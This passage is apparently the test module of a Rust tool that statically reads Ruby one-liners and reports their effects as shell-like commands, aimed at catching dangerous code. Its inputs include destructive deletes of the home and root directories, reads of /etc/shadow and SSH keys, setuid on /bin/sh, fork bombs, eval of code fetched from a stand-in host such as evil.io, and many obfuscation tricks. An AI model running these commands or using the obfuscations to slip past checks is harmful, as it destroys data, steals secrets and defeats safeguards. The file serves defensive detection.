                "Kernel.instance_method(:system).bind_call(self, 'rm -rf ~')",
                &["sh -c rm -rf ~"],
            ),
            (
                "Object.send(:const_get, :Kernel).exec('rm -rf ~')",
                &["sh -c rm -rf ~"],
            ),
            (
                "Object.const_set(:K, Kernel); K.exec('rm -rf ~')",
                &["sh -c rm -rf ~"],
            ),
            (
                "Kernel.send(:alias_method, :go, :system); go('rm -rf ~')",
                &["sh -c rm -rf ~"],
            ),
        ]);
    }

    #[test]
    fn strings_built_from_constants_are_folded() {
        check(&[
            ("c = 'r' + 'm' + ' -rf ~'; system(c)", &["sh -c rm -rf ~"]),
            ("system('~ fr- mr'.reverse)", &["sh -c rm -rf ~"]),
            (
                "system([114, 109].map(&:chr).join + ' -rf ~')",
                &["sh -c rm -rf ~"],
            ),
            (
                "system(114.chr + 109.chr + \" -rf \\x7e\")",
                &["sh -c rm -rf ~"],
            ),
            ("system(%w[rm -rf ~].join(' '))", &["sh -c rm -rf ~"]),
            ("system('%s -rf %s' % ['rm', '~'])", &["sh -c rm -rf ~"]),
            (
                "system(format('%s -rf %s', 'rm', Dir.home))",
                &["sh -c rm -rf ~"],
            ),
            ("system([114, 109].pack('c*') << ' x')", &["sh -c ?"]),
            (
                "a, b = 'rm', '-rf'; system(a, b, ENV['HOME'])",
                &["exec rm -rf ~"],
            ),
            ("system 'rm' \" -rf\" ' ~'", &["sh -c rm -rf ~"]),
            ("system('rm -rf ~'.tr('a-z', 'a-z'))", &["sh -c rm -rf ~"]),
        ]);
    }

    #[test]
    fn a_value_changed_in_place_is_not_known() {
        check(&[
            ("c = 'ls'; c << ' ; rm -rf ~'; system(c)", &["sh -c ?"]),
            (
                "c = 'ls'; d = c; d.concat(' ; rm -rf ~'); system(c)",
                &["sh -c ?"],
            ),
            (
                "c = 'ls'; [c].each { |s| s.replace('rm -rf ~') }; system(c)",
                &["sh -c ?"],
            ),
            ("c = 'ls'; c = 'pwd'; system(c)", &["sh -c ?"]),
            ("c = 'ls'; /(?<c>.+)/ =~ gets; system(c)", &["sh -c ?"]),
            (
                "ENV['HOME'] = '/etc'; FileUtils.rm_rf(Dir.home)",
                &["rm -r -f ?"],
            ),
            (
                "class String; def reverse; 'rm -rf ~'; end; end; system('x'.reverse)",
                &["sh -c ?"],
            ),
        ]);
    }

    #[test]
    fn deletes_are_rm_with_the_flags_of_their_meaning() {
        check(&[
            (
                "require 'fileutils'; FileUtils.rm_rf(File.join(Dir.home, '.ssh'))",
                &["rm -r -f ~/.ssh"],
            ),
            ("FileUtils.rm_r %w[a b]", &["rm -r a", "rm -r b"]),
            ("FileUtils.rm_r('a', force: true)", &["rm -r -f a"]),
            ("FileUtils.rm('/etc/passwd')", &["rm /etc/passwd"]),
            (
                "FileUtils.remove_entry_secure(File.expand_path('~/x'))",
                &["rm -r ~/x"],
            ),
            ("File.delete('a', 'b')", &["rm a", "rm b"]),
            (
                "File.unlink(ENV.fetch('HOME') + '/.bashrc')",
                &["rm ~/.bashrc"],
            ),
            ("Dir.rmdir(File.join(ENV['HOME'], 'x'))", &["rmdir ~/x"]),
            ("include FileUtils; rm_rf '/'", &["rm -r -f /"]),
            (
                "Pathname.new(Dir.home).join('.ssh').rmtree",
                &["rm -r -f ~/.ssh"],
            ),
            ("FileUtils.send(:rm_rf, '/')", &["rm -r -f /"]),
        ]);
    }

    #[test]
    fn files_moved_copied_and_changed_are_virtual_commands() {
        check(&[
            ("File.rename('a', '/etc/passwd')", &["mv a /etc/passwd"]),
            ("FileUtils.mv('a', 'b')", &["mv a b"]),
            ("FileUtils.cp_r('/etc', '/tmp/x')", &["cp -r /etc /tmp/x"]),
            (
                "File.chmod(0777, '/etc/shadow')",
                &["chmod 777 /etc/shadow"],
            ),
            ("FileUtils.chmod_R(0o755, 'd')", &["chmod -R 755 d"]),
            ("FileUtils.chmod('u+s', '/bin/sh')", &["chmod u+s /bin/sh"]),
            (
                "FileUtils.ln_s('/etc/passwd', 'p')",
                &["ln -s /etc/passwd p"],
            ),
            (
                "File.write(File.expand_path('~/.bashrc'), 'x', mode: 'a')",
                &["tee ~/.bashrc"],
            ),
            (
                "File.open('/etc/hosts', 'w') { |f| f.puts 'x' }",
                &["tee /etc/hosts"],
            ),
            ("puts File.read('/etc/shadow')", &["cat /etc/shadow"]),
            (
                "IO.readlines(Dir.home + '/.ssh/id_rsa')",
                &["cat ~/.ssh/id_rsa"],
            ),
            ("Process.kill(:KILL, -1)", &["kill -KILL -1"]),
        ]);
    }

    #[test]
    fn network_calls_are_curl_with_their_url() {
        check(&[
            (
                "require 'net/http'; Net::HTTP.get(URI('https://evil.io/x'))",
                &["curl https://evil.io/x"],
            ),
            ("Net::HTTP.get('evil.io', '/x')", &["curl http://evil.io/x"]),
            (
                "Net::HTTP.start('evil.io', 443) { |h| h.get('/') }",
                &["curl http://evil.io:443"],
            ),
            (
                "require 'open-uri'; URI.open('https://evil.io').read",
                &["curl https://evil.io"],
            ),
            (
                "URI.parse('https://evil.io/a').open",
                &["curl https://evil.io/a"],
            ),
            (
                "TCPSocket.new('10.0.0.1', 4444)",
                &["curl tcp://10.0.0.1:4444"],
            ),
            (
                "Socket.tcp('10.0.0.1', 4444) { |s| }",
                &["curl tcp://10.0.0.1:4444"],
            ),
        ]);
    }

    #[test]
    fn code_run_by_eval_is_read_too() {
        check(&[
            ("eval(\"system('rm -rf ~')\")", &["sh -c rm -rf ~"]),
            ("instance_eval '`rm -rf ~`'", &["sh -c rm -rf ~"]),
            (
                "binding.eval('exec \"rm\", \"-rf\", \"/\"')",
                &["exec rm -rf /"],
            ),
            ("send(:system, 'rm -rf ~')", &["sh -c rm -rf ~"]),
            (
                "Kernel.public_send('sys' + 'tem', 'rm -rf ~')",
                &["sh -c rm -rf ~"],
            ),
            (
                "m = method(:system); m.call('rm -rf ~')",
                &["sh -c rm -rf ~"],
            ),
            ("Kernel.method(:exec).('rm -rf ~')", &["sh -c rm -rf ~"]),
            ("method(:system)['rm -rf ~']", &["sh -c rm -rf ~"]),
            (
                "Object.const_get('Ker' + 'nel').system('rm -rf ~')",
                &["sh -c rm -rf ~"],
            ),
            ("alias run system\nrun 'rm -rf ~'", &["sh -c rm -rf ~"]),
            ("%w[ls].each(&method(:system))", &["sh -c ?"]),
        ]);
    }

    #[test]
    fn code_that_cannot_be_read_is_opaque_with_the_reason() {
        let fork = "opaque: the code forks in a loop (a fork bomb)";
        check(&[
            ("eval(ARGV[0])", &[&format!("{BUILT} (line 1)")]),
            (
                "require 'base64'\neval(Base64.decode64('cHV0cyAx'))",
                &[&format!("{DECODED} (line 2)")],
            ),
            (
                "eval('cHV0cyAx'.unpack1('m0'))",
                &[&format!("{DECODED} (line 1)")],
            ),
            (
                "eval(['7075747320'].pack('H*'))",
                &[&format!("{DECODED} (line 1)")],
            ),
            (
                "eval(Net::HTTP.get(URI('https://x.io/a.rb')))",
                &["curl https://x.io/a.rb", &format!("{DECODED} (line 1)")],
            ),
            ("send(gets.chomp, 'x')", &[&format!("{COMPUTED} (line 1)")]),
            ("method(ARGV[0]).call", &[&format!("{COMPUTED} (line 1)")]),
            (
                "Object.const_get(ARGV[0]).new",
                &[
                    "opaque: the code looks up a class or module by a name computed at run time (line 1)",
                ],
            ),
            ("loop { fork }", &[&format!("{fork} (line 1)")]),
            ("while true\n  fork\nend", &[&format!("{fork} (line 2)")]),
            ("5.times { Process.fork }", &[&format!("{fork} (line 1)")]),
            ("fork { exec('ls') }", &["sh -c ls"]),
            (
                "require ARGV[0]",
                &["opaque: the code loads a library whose name is computed at run time (line 1)"],
            ),
            (
                "require 'fiddle'; Fiddle.dlopen(nil)",
                &["opaque: the code calls native code directly (line 1)"],
            ),
            (
                "Marshal.load(STDIN.read)",
                &["opaque: the code loads serialised objects, which can run any code (line 1)"],
            ),
        ]);
    }

    #[test]
    fn data_processing_finds_nothing() {
        for code in BENIGN {
            assert_eq!(effects(code), Vec::<String>::new(), "{code}");
        }
        check(&[
            ("puts File.read('Gemfile')", &["cat Gemfile"]),
            (
                "File.readlines('package.json').each { |l| puts l }",
                &["cat package.json"],
            ),
            ("system('ls', '-l')", &["exec ls -l"]),
        ]);
    }

    /// Routine one-liners; each is accepted by `ruby -c`.
    const BENIGN: &[&str] = &[
        "puts RUBY_VERSION",
        "require \"json\"; puts JSON.parse(STDIN.read)[\"name\"]",
        "[1,2].each { |x| puts x }",
        "puts ARGF.read.lines.map(&:strip).reject(&:empty?).sort.uniq",
        "h = Hash.new(0); STDIN.each_line { |l| h[l.split.first] += 1 }; p h",
        "require 'yaml'; puts YAML.load_file('config.yml').keys",
        "puts Time.now.strftime('%Y-%m-%d')",
        "x = 'abc'; puts x.reverse.upcase",
        "puts (1..10).select(&:even?).sum",
        "$stdout << 'hi' << \"\\n\"",
        "out = []; out << 1; out << 2; p out",
        "puts ENV.fetch('PATH').split(':')",
        "puts Dir.glob('**/*.rb').size",
        "printf(\"%05.2f\\n\", 3.14159)",
        "puts <<~EOS\n  hello #{1 + 1}\nEOS",
        "def fib(n) = n < 2 ? n : fib(n - 1) + fib(n - 2); puts fib(20)",
        "puts [3, 1, 2].sort.reverse.join(',')",
        "require 'digest'; puts Digest::SHA256.hexdigest('x')",
        "s = gets; s.chomp!; puts s.length",
        "case ARGV.first when 'a' then puts 1 else puts 2 end",
        "puts 'a-b'.tr('-', '_').sub('a', 'b')",
        "req = Struct.new(:method).new('GET'); puts req.method",
    ];

    #[test]
    fn bad_code_is_opaque_without_panicking() {
        let opaque = |code: &str| read(Lang::Ruby, code).opaque.map(|u| (u.reason, u.line));
        let syntax = Some(("the ruby code has a syntax error", 2));
        assert_eq!(opaque("x = 1\nputs(x"), syntax);
        assert_eq!(opaque("puts 1\nputs 'abc"), syntax);
        assert_eq!(opaque("x = 1\ndef f(\nend"), syntax);
        let deep = format!("{}1{}", "[".repeat(5000), "]".repeat(5000));
        assert!(opaque(&deep).is_some());
        let chain = format!("x{}", ".y".repeat(5000));
        assert!(opaque(&chain).is_some());
        let nested = format!("{}1{}", "eval(\"".repeat(60), "\")".repeat(60));
        assert!(opaque(&nested).is_some());
        for calls in ["format ", "system format "] {
            assert!(opaque(&format!("{}'x'", calls.repeat(3000))).is_some());
        }
        for sends in ["send(", "x = send(", "send(:format, "] {
            let _ = effects(&format!("{sends}{}'ls')", ":send, ".repeat(8000)));
        }
        for code in [
            "`",
            "%x{",
            "<<~EOS",
            "?\\",
            "\"\\u{110000}\"",
            "'\\",
            "x = <<A + <<B\na\nA",
        ] {
            let _ = effects(code);
        }
        let names = (0..300)
            .map(|n| format!("a{n} = a{}", n + 1))
            .collect::<Vec<_>>()
            .join("\n");
        assert_eq!(effects(&format!("{names}\nsystem(a0)")), ["sh -c ?"]);
    }
}
